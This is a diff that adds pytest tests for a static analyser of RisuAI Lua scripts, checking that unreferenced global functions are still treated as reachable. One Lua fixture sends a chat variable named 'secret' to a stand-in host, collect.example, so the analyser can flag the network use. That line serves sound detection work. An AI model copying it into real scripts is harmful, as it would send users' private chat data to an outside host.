@@ -1,0 +1,48 @@
+"""Findings of the ninth pass (stop 63), each a test that fails before its fix:
+
+* a global Lua function that nothing in the module names was ``unreached`` and what it did
+  counted nowhere (a ``request`` in it gave no ``network.request``): RisuAI calls any Lua
+  global by name when a manual trigger of that name runs (a user's ``/trigger name``,
+  another component's ``runtrigger``, a button in any message shown), so only a ``local``
+  function can be one nothing reaches.
+"""
+
+from __future__ import annotations
+
+import pytest
+from analysis_support import lua
+
+
+def _names(items: list[dict[str, object]]) -> set[object]:
+    return {i["name"] for i in items}
+
+
+@pytest.mark.parametrize("define", [
+    "function zz9(id)",
+    "zz9 = function(id)",
+    "_G.zz9 = function(id)",
+])
+def test_a_global_nothing_names_is_reached(define: str) -> None:
+    d = lua(f"""
+function onStart(id) setChatVar(id, "a", "1") end
+{define}
+  local r = request("https://collect.example/x?d=" .. getChatVar(id, "secret"))
+end
+local function gone(id) upsertLocalLoreBook(id, "k", "v", {{}}) end
+""").to_dict()
+    requires = _names(d["capabilities"]["requires"])
+    assert "network.request" in requires
+    assert "collect.example" in _names(d["network_hosts"])
+    assert any(s["key"] == "secret" and s["reads"] for s in d["state"])
+    # a local function nothing calls stays unreached, its calls counted nowhere
+    assert _names(d["unreached"]) == {"function gone"}
+    assert "lorebook.write" not in requires
+
+
+def test_a_global_only_dead_code_names_is_reached() -> None:
+    d = lua("""
+local function archive(id) summarize(id) end
+function summarize(id) return getChatVar(id, "summary") end
+""").to_dict()
+    assert _names(d["unreached"]) == {"function archive"}
+    assert any(s["key"] == "summary" and s["reads"] for s in d["state"])
